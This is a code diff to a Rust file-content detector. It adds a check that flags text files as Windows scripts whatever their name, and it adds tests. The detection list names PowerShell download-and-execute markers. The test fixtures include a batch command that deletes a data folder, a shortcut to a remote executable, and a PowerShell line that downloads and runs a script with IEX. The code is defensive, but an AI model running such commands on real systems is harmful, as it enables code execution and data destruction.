@@ -128,7 +128,11 @@ fn detect_content(data: &[u8], limits: &Limits) -> Detected {
         return Detected::of(Kind::Pdf);
     }
     if looks_like_text(data) {
-        return Detected::of(text_kind(data));
+        let kind = text_kind(data);
+        if kind == Kind::Text && looks_like_script(data) {
+            return Detected::of(Kind::Script);
+        }
+        return Detected::of(kind);
     }
     Detected::of(Kind::Unknown)
 }
@@ -289,6 +293,53 @@ fn text_kind(data: &[u8]) -> Kind {
     Kind::Text
 }
 
+/// Text that Windows runs or imports when it is opened under its usual extension, whatever
+/// name it carries now: batch files, registry imports, shortcut and shell command files, and
+/// Windows Script Host or PowerShell code (recognised by the objects and calls such code cannot
+/// do without). Plain notes that merely mention a command do not match.
+fn looks_like_script(data: &[u8]) -> bool {
+    let head = &data[..data.len().min(64 * 1024)];
+    let head = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
+    let lower: Vec<u8> = head.iter().map(|b| b.to_ascii_lowercase()).collect();
+    let first_line: Vec<u8> = {
+        let start = lower.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(lower.len());
+        let rest = &lower[start..];
+        rest[..rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len())].trim_ascii().to_vec()
+    };
+    let starts = |p: &[u8]| first_line.starts_with(p);
+    if starts(b"@echo off")
+        || starts(b"@echo on")
+        || starts(b"windows registry editor version")
+        || starts(b"regedit4")
+        || starts(b"[internetshortcut]")
+        || (starts(b"[shell]") && find(&lower, b"command=").is_some())
+        || (starts(b"[desktop entry]") && find(&lower, b"exec=").is_some())
+    {
+        return true;
+    }
+    let has = |n: &[u8]| find(&lower, n).is_some();
+    // Windows Script Host (VBScript, JScript): the host objects.
+    if has(b"wscript.shell") || has(b"activexobject(") || has(b"wscript.createobject") || has(b"getobject(\"winmgmts") {
+        return true;
+    }
+    if has(b"createobject(") && (has(b"wscript.") || has(b"shell.application") || has(b"scripting.filesystemobject")) {
+        return true;
+    }
+    // PowerShell: downloading and running code, encoded commands, loading assemblies.
+    const POWERSHELL: [&[u8]; 9] = [
+        b"invoke-expression",
+        b"iex(",
+        b"iex (",
+        b"-encodedcommand",
+        b"downloadstring(",
+        b"downloadfile(",
+        b"net.webclient",
+        b"[reflection.assembly]::load",
+        b"frombase64string(",
+    ];
+    POWERSHELL.iter().filter(|m| has(m)).count() >= 2
+}
+
 /// A mail message: starts with header lines and has the headers a message has.
 fn is_mail(head: &[u8]) -> bool {
     let text = String::from_utf8_lossy(&head[..head.len().min(4096)]);
@@ -445,6 +496,27 @@ mod tests {
             assert!(!got.findings.is_empty(), "the .txt name no longer fits");
         }
         assert_eq!(detect(b"see {\\rtf1 a}", None, None, &lim()).kind, Kind::Text);
+    }
+
+    #[test]
+    fn scripts_are_found_by_content_whatever_their_name() {
+        for d in [
+            &b"@ECHO OFF\r\ndel /q C:\\data\r\n"[..],
+            b"\xEF\xBB\xBFWindows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software]\r\n",
+            b"[InternetShortcut]\r\nURL=file://server/share/run.exe\r\n",
+            b"Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n",
+            b"var x = new ActiveXObject(\"Scripting.FileSystemObject\");\r\n",
+            b"$c = (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); IEX($c)\r\n",
+        ] {
+            assert_eq!(detect(d, Some("notes.txt"), None, &lim()).kind, Kind::Script, "{}", String::from_utf8_lossy(d));
+        }
+        for d in [
+            &b"Run the batch file with @echo off at the top.\r\n"[..],
+            b"To update, open PowerShell and run Invoke-Expression on the script we sent.\r\n",
+            "連絡事項: 明日の保守作業について\r\n".as_bytes(),
+        ] {
+            assert_eq!(detect(d, Some("notes.txt"), None, &lim()).kind, Kind::Text, "{}", String::from_utf8_lossy(d));
+        }
     }
 
     #[test]
